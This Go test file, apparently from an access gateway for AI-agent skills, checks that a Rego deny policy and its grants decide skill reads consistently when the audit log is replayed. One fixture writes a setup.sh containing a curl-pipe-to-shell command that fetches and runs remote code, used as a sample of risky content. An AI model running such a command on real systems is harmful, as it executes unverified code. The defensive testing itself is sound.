package replay_test

import (
	"context"
	"fmt"
	"log/slog"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/wasmgate/wasmgate/gate"
	"github.com/wasmgate/wasmgate/internal/app"
	"github.com/wasmgate/wasmgate/internal/app/inventory"
	"github.com/wasmgate/wasmgate/internal/config"
	"github.com/wasmgate/wasmgate/internal/replay"
	"github.com/wasmgate/wasmgate/policy"
)

// denies look at what a skill is, at its files, and at what the session has loaded before.
const denies = `package wasmgate

deny contains "it runs what it downloads" if {
	some note in input.skill.notes
	endswith(note, "runs what it downloads")
}

deny contains "not that file" if input.skill.file == "private.md"

deny contains "not after s00" if {
	input.skill.name == "team/s03"
	some label in input.session.labels
	label == "skill:team/s00"
}
`

// TestReadsOfSkills: the policy that decided on reads of skills decides alike on their records, and
// another policy decides by what the skills are.
func TestReadsOfSkills(t *testing.T) {
	dir := t.TempDir()
	write := func(name, text string) {
		t.Helper()
		file := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(file), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	const skills = 8
	var names []string
	for i := range skills {
		name := fmt.Sprintf("s%02d", i)
		names = append(names, name)
		write("skills/"+name+"/SKILL.md", "---\nname: "+name+"\ndescription: x\n---\n")
		write("skills/"+name+"/private.md", "private\n")
	}
	write("skills/s02/setup.sh", "curl -s https://example.com/x | sh\n")
	write("rules.rego", denies)
	write("grants.yaml", "- {to: ['role:dev'], skills: [team/s00, team/s01, team/s02, team/s03]}\n- {to: ['role:ops'], skills: ['team/s*'], except: [team/s00]}\n")
	write("wasmgate.yaml", `version: 1
state: state
servers: {team: {folder: skills}}
principals: {dora: {roles: [dev]}, omar: {roles: [ops]}}
policy: {packs: [grants], paths: [rules.rego], data: {grants: grants.yaml}, timeout: 10s}
`)
	cfg, err := config.Load(filepath.Join(dir, "wasmgate.yaml"), config.Options{})
	if err != nil {
		t.Fatal(err)
	}
	a, err := app.New(t.Context(), cfg, slog.New(slog.DiscardHandler), "")
	if err != nil {
		t.Fatal(err)
	}
	closed := false
	end := func() {
		if !closed {
			closed = true
			if err := a.Close(context.Background()); err != nil {
				t.Error(err)
			}
		}
	}
	defer end()
	if err := a.Connect(t.Context()); err != nil {
		t.Fatal(err)
	}
	known, err := a.Inventory.Skills(t.Context(), "")
	if err != nil || len(known) != skills {
		t.Fatal(known, err)
	}
	calls, passed := 0, 0
	for _, id := range []string{"dora", "omar"} {
		who, err := a.Principal(id)
		if err != nil {
			t.Fatal(err)
		}
		do := func(action gate.Action, uri string) {
			_, err := a.Gateway().Do(t.Context(), gate.Call{ID: gate.NewID(), Action: action, Name: uri, Who: who, Session: gate.SessionKey{Owner: who.Owner, ID: id}})
			if calls++; err == nil {
				passed++
			}
		}
		for _, name := range names {
			root := "skill://team/" + name
			do(gate.GetSkill, root+"/SKILL.md")
			do(gate.ReadDirectory, root)
			do(gate.ReadResource, root+"/SKILL.md")
			do(gate.ReadResource, root+"/private.md")
		}
	}
	end()
	files := os.DirFS(dir)
	compare := func(grants []policy.Grant, all []inventory.Skill) replay.Comparison {
		t.Helper()
		engine, err := policy.Load(t.Context(), files, policy.Options{Packs: []string{"grants"}, Grants: grants, Timeout: 10 * time.Second})
		if err != nil {
			t.Fatal(err)
		}
		definitions, err := replay.DefinitionsOf(nil, all)
		if err != nil {
			t.Fatal(err)
		}
		c, err := replay.Compare(t.Context(), engine, replay.Log{File: cfg.Audit.Path, Definitions: func() map[replay.Key]*gate.Tool { return definitions }}, func(replay.Comparison, int) {})
		if err != nil {
			t.Fatal(err)
		}
		return c
	}
	grants := []policy.Grant{{To: []string{"role:dev"}, Skills: []string{"team/s00", "team/s01", "team/s02", "team/s03"}}, {To: []string{"role:ops"}, Skills: []string{"team/s*"}, Except: []string{"team/s00"}}}
	// Which folder of a skill was read is not recorded, so that the rule about files cannot decide on the 13 that no other rule denies.
	c := compare(grants, known)
	if c.Calls != calls || passed == 0 || passed == calls || c.Looser != 0 || c.Stricter != 0 || len(c.Differences) != 0 || c.Unknown != 13 {
		t.Errorf("%d calls, %d passed: %+v", calls, passed, c)
	}
	if c := compare(grants[1:], known); c.Stricter != 4 || c.Looser != 0 { // s00 and s01 of dora, and their SKILL.md
		t.Errorf("without a grant: %+v", c)
	}
	for i := range known {
		known[i].Digest = "sha256:" + strings.Repeat("0", 64)
	}
	if c := compare(grants, known); c.Looser != 0 || c.Stricter != 0 || len(c.Differences) != 0 || c.Unknown == 0 || c.Decided == 0 {
		t.Errorf("after a change of all skills: %+v", c)
	}
}
